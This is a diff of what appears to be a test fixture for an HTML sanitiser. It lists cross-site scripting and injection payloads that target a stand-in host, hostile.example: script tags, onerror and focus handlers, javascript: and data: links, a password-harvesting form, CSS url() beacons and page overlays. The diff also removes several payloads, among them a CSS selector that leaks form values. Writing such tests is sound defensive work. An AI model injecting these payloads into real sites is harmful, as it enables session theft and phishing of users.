@@ -3,17 +3,14 @@ const host = 'https://hostile.example'
 
 /**
  * Could be stored with an administrator's session (D24). Each piece closes its tags, so that they can be joined. Tricks
- * of the HTML parser are tests of DOMPurify. A tag needs no piece if the list of allowed tags has no such tag.
+ * of the HTML parser are left to the tests of DOMPurify.
  */
 export const hostileHtml: Record<string, string> = {
   script: `<script>${js}</script>`,
-  'script from elsewhere': `<script src="${host}/a.js"></script>`,
 
   'image that fails': `<img src="x" onerror="${js}">`,
   'handler behind a quote': `<img alt="a" title='"onerror="${js}"' src=x>`,
   'pointer and focus': `<p onpointerover="${js}" onfocus="${js}" tabindex="1" autofocus>a</p>`,
-  'details that open': `<details open ontoggle="${js}"><summary>a</summary></details>`,
-  'video and audio': `<video autoplay src="x" onerror="${js}"></video><audio src="x" onerror="${js}"></audio>`,
 
   'javascript link': `<a href="javascript:${js}">a</a>`,
   'data link': `<a href="data:text/html,<script>${js}</script>">a</a>`,
@@ -21,23 +18,14 @@ export const hostileHtml: Record<string, string> = {
   'image that is not https': '<img src="http://hostile.example/a.png"><img src="//hostile.example/b.png">',
   'image in another attribute': `<img srcset="${host}/a.png 1x" sizes="100vw"><table background="${host}/b.png"></table>`,
   'pinging link': `<a href="/en" ping="${host}/ping" download target="_blank" rel="opener">a</a>`,
-
   'svg script': `<svg><script>${js}</script></svg>`,
-  'svg handler': `<svg onload="${js}"><circle r="9"/></svg>`,
-
   'style element': `<style>@import '${host}/a.css';header{display:none}</style>`,
-  'style that leaks form values': `<style>input[value^="a"]{background:url(${host}/?a)}</style>`,
   'style attribute': `<p style="background:url(${host}/a.png)">a</p>`,
   'overlay by style':
     '<div style="position:fixed;inset:0;z-index:9999"><a href="https://hostile.example">a</a></div>',
   'overlay by classes of the site':
     '<div class="fixed inset-0 z-50"><a class="absolute inset-0" href="/en">a</a></div>',
-  'overlay by popover': '<div popover id="p" open>a</div><dialog open>a</dialog>',
-  stylesheet: `<link rel="stylesheet" href="${host}/a.css"><link rel="prefetch" href="${host}/b">`,
-
   iframe: `<iframe src="${host}"></iframe><iframe src="javascript:${js}"></iframe>`,
-
-  'second title': '<title>Hacked</title><h1>Hacked</h1>',
   'form that asks for a password': `<form action="${host}"><input name="password" type="password" autofocus><button formaction="javascript:${js}">a</button></form>`,
   'slot and part': '<slot name="a"></slot><p slot="a" part="b" is="x-y">a</p>',
   'names that hide functions':
